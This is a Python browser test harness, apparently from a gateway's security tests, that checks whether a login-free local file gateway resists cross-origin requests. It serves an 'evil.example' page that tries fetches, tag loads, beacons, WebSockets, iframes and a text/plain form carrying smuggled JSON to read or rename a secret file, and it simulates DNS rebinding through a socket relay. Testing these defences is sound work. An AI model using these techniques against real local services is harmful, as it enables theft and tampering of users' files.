"""Pages in a browser against a gateway that lets everybody in without a login.

browser.py BROWSER GATEWAY_PORT PAGES_PORT REBOUND_PORT

A page of another origin tries all ways by which a page sends requests. A page whose name was bound to
this host's address anew tries to be of the gateway's own origin. A page of an allowed origin uses the
gateway. Each line of output is an attempt, and its outcome.
"""

import contextlib
import json
import queue
import select
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1] / "testkit"))

import browsers

BROWSER = sys.argv[1]
GATEWAY, PAGES, REBOUND = (int(port) for port in sys.argv[2:])
SECONDS = 120
URL = "http://127.0.0.1:"
REBINDER_ASKED = b"GET /rebinder "

TRY = """
const results = {};
async function attempt(name, work) {
  try { results[name] = String(await work()); } catch (error) { results[name] = 'failed'; }
}
const loads = (tag, field) => new Promise((done, fail) => {
  const element = document.createElement(tag);
  element.onload = () => done('loaded');
  element.onerror = fail;
  element[field] = gateway + '/v1/files/secret';
  if (tag === 'link') element.rel = 'stylesheet';
  document.body.append(element);
  setTimeout(fail, 3000);
});
function finish() {
  fetch(pages + '/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
}
"""

STRANGER = (
    TRY
    + """
async function main() {
  const file = gateway + '/v1/files/secret', made = gateway + '/v1/files/made';
  for (const mode of ['cors', 'no-cors']) {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH']) {
      const body = ['POST', 'PUT', 'PATCH'].includes(method) ? 'x' : undefined;
      const at = method === 'PUT' ? made : file;
      await attempt(mode + ' ' + method, async () => {
        const answer = await fetch(at, {method, mode, body});
        return answer.type === 'opaque' ? 'opaque' : 'READ ' + await answer.text();
      });
    }
    await attempt(mode + ' rename', async () => {
      const body = JSON.stringify({from: '/secret', to: '/stolen'});
      const answer = await fetch(gateway + '/v1/renames', {method: 'POST', mode, body});
      return answer.type === 'opaque' ? 'opaque' : 'READ ' + await answer.text();
    });
    await attempt(mode + ' thrift', async () => {
      const body = '[1,"init",1,1,{}]';
      const headers = {'Content-Type': 'text/plain'};
      const answer = await fetch(gateway + '/thrift', {method: 'POST', mode, body, headers});
      return answer.type === 'opaque' ? 'opaque' : 'READ ' + await answer.text();
    });
  }
  for (const [tag, field] of [['img', 'src'], ['script', 'src'], ['link', 'href'], ['video', 'src']]) {
    await attempt(tag, () => loads(tag, field));
  }
  await attempt('beacon', () => navigator.sendBeacon(made, 'x') && 'opaque');
  await attempt('socket', () => new Promise((done, fail) => {
    const socket = new WebSocket(gateway.replace('http', 'ws') + '/v1/files/secret');
    socket.onopen = () => done('OPENED');
    socket.onerror = fail;
  }));
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = file;
    document.body.append(frame);
    await new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
    try { return 'READ ' + frame.contentWindow.document.body.innerText; } catch { return 'opaque'; }
  });
  await attempt('form', async () => {
    const frame = document.createElement('iframe');
    frame.name = 'target';
    const form = document.createElement('form');
    Object.assign(form, {method: 'post', action: gateway + '/v1/renames', target: 'target'});
    form.enctype = 'text/plain';
    const input = document.createElement('input');
    input.name = '{"from":"/secret","to":"/stolen","x":"';
    input.value = '"}';
    form.append(input);
    document.body.append(frame, form);
    form.submit();
    await new Promise(done => setTimeout(done, 1000));
    return 'opaque';
  });
  finish();
}
main();
"""
)

REBINDER = (
    TRY
    + """
async function main() {
  await attempt('own GET', async () => 'status ' + (await fetch('/v1/files/secret')).status);
  await attempt('own PUT', async () =>
    'status ' + (await fetch('/v1/files/made', {method: 'PUT', body: 'x'})).status);
  await attempt('own list', async () => 'status ' + (await fetch('/v1/directories/')).status);
  finish();
}
main();
"""
)

ALLOWED = (
    TRY
    + """
async function main() {
  const file = gateway + '/v1/files/by-page';
  await attempt('put', async () =>
    (await fetch(file, {method: 'PUT', body: 'by a page', headers: {'If-None-Match': '*'}})).status);
  await attempt('get', async () => (await fetch(file)).text());
  await attempt('range', async () =>
    (await fetch(file, {headers: {Range: 'bytes=5-'}})).text());
  await attempt('tag', async () => (await fetch(file)).headers.get('ETag').length);
  await attempt('list', async () =>
    (await (await fetch(gateway + '/v1/directories/')).json()).entries.length);
  await attempt('remove', async () => (await fetch(file, {method: 'DELETE'})).status);
  finish();
}
main();
"""
)


class Pages(BaseHTTPRequestHandler):
    """Serves the page that the path names, and takes its report."""

    reports: "queue.Queue[dict[str, str]]" = queue.Queue()

    def do_GET(self) -> None:
        script = {
            "/stranger": STRANGER,
            "/rebinder": REBINDER,
            "/allowed": ALLOWED,
        }.get(self.path)
        if script is None:
            self.send_error(404)
            return
        hosts = f"const gateway = '{URL}{GATEWAY}', pages = '{URL}{PAGES}';"
        page = f"<!doctype html><body><script>{hosts}{script}</script></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(page.encode())

    def do_POST(self) -> None:
        self.reports.put(
            json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        )
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *arguments: object) -> None:
        """Nothing."""


def rebind(listener: socket.socket) -> None:
    """The connection that asks for the page reaches the pages, all others the gateway: a name that changed."""
    while True:
        client, _ = listener.accept()
        threading.Thread(target=relay, args=(client,), daemon=True).start()


def relay(client: socket.socket) -> None:
    # A browser may also open connections for later.
    begin = client.recv(len(REBINDER_ASKED), socket.MSG_PEEK | socket.MSG_WAITALL)
    port = PAGES if begin == REBINDER_ASKED else GATEWAY
    server = socket.create_connection(("127.0.0.1", port))
    with (
        contextlib.closing(client),
        contextlib.closing(server),
        contextlib.suppress(OSError),
    ):
        while True:
            ready, _, _ = select.select([client, server], [], [], SECONDS)
            for end in ready:
                data = end.recv(65_536)
                if not data:
                    return
                (server if end is client else client).sendall(data)


def show(url: str) -> dict[str, str]:
    """The report of a page that is done."""
    with browsers.page(BROWSER, url):
        return Pages.reports.get(timeout=SECONDS)


pages = ThreadingHTTPServer(("127.0.0.1", PAGES), Pages)
threading.Thread(target=pages.serve_forever, daemon=True).start()
rebound = socket.create_server(("127.0.0.1", REBOUND))
threading.Thread(target=rebind, args=(rebound,), daemon=True).start()

for host, port, name in [
    ("evil.example", PAGES, "stranger"),
    ("evil.example", REBOUND, "rebinder"),
    ("app.example", PAGES, "allowed"),
]:
    for attempted, outcome in show(f"http://{host}:{port}/{name}").items():
        print(f"{name}: {attempted}: {outcome}", flush=True)
